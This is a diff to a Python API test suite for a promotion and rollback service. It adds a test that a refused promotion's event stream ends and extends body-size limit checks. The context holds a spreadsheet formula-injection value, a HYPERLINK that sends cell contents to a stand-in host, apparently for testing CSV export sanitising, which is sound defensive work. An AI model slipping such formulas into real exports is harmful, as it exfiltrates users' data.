@@ -1,25 +1,29 @@
 """What people do through the API, from the login to the rollback."""
 
+import asyncio
 import csv
 import io
 import json
 import logging
+from typing import Any
 from uuid import UUID, uuid4
 
 import pytest
 import structlog
 from fastapi.testclient import TestClient
+from starlette.requests import Request
 
 from tests.api.conftest import REASON, Api
 from tests.promotion.world import World
 from wisqu_pipelines.api import problems
 from wisqu_pipelines.api.app import create_app
 from wisqu_pipelines.api.logs import log_as_json
+from wisqu_pipelines.api.routes import promotions
 from wisqu_pipelines.audit.verification import verify_control
 from wisqu_pipelines.bootstrap import Services
 from wisqu_pipelines.environments import schema
 from wisqu_pipelines.identity.demo_people import ADMIN, DEVELOPER, SUPERADMIN, TESTER
-from wisqu_pipelines.promotion.models import PromotionState
+from wisqu_pipelines.promotion.models import Promotion, PromotionState
 
 PASSWORD = "correct horse battery staple"
 FORMULA = '=HYPERLINK("http://x.example/?"&A1) of issue 4711'
@@ -107,6 +111,23 @@ def test_a_promotion_from_the_preview_to_the_rollback(api: Api) -> None:
     assert asked.status_code == 202, asked.text
     assert api.services.promotions.rollbacks_requested() == [UUID(promotion)]
     assert world.row(document).promotion_status == "promoted"
+
+
+def test_the_events_of_a_promotion_that_is_refused_end(api: Api) -> None:
+    _, _, promotion = previewed(api)
+    with api.services.control.begin() as session:
+        session.get_one(Promotion, UUID(promotion)).state = PromotionState.REFUSED
+
+    async def nothing_more() -> Any:
+        await asyncio.Event().wait()
+
+    async def states() -> list[str]:
+        request = Request({"type": "http", "app": api.client.app}, nothing_more)
+        async with asyncio.timeout(10):  # read as the server does: a client would wait as long as a stream goes on
+            stream = promotions.events(UUID(promotion), request, api.services.promotions.status(UUID(promotion)))
+            return [each.data["state"] async for each in stream]
+
+    assert asyncio.run(states()) == ["refused"]
 
 
 def test_an_item_is_approved_marked_and_unmarked_as_it_was_read(api: Api) -> None:
@@ -199,7 +220,9 @@ def test_what_cannot_be_kept_is_refused_whole(api: Api, reason: str) -> None:
 def test_bodies_have_limits(api: Api) -> None:
     large = api.client.post("/v1/detect", content=b"[" + b"1," * 600_000 + b"1]", headers=api.headers())
     deep = api.client.post("/v1/detect", content=b"[" * 5_000 + b"]" * 5_000, headers=api.headers())
-    assert [large.status_code, deep.status_code] == [413, 413]
+    shouted = {**api.headers(), "Content-Type": "application/JSON"}
+    other = api.client.post("/v1/detect", content=b"[" * 5_000 + b"]" * 5_000, headers=shouted)
+    assert [large.status_code, deep.status_code, other.status_code] == [413, 413, 413]
     assert deep.headers["content-type"] == "application/problem+json"
     quoted = {"text": "[" * 5_000, "environment": "dev"}
     assert api.client.post("/v1/detect", json=quoted, headers=api.headers()).status_code == 200
